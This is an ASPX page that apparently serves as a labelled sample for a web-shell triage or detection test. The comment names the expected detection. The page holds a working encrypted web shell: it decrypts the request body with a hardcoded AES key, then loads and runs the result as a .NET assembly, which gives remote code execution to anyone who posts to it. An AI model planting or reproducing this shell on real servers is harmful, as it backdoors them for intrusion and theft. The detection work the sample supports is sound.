<%-- triage-expect: triage_aspx_assembly_load --%>
<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%>
<%Session.Add("k","0123456789abcdef"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>
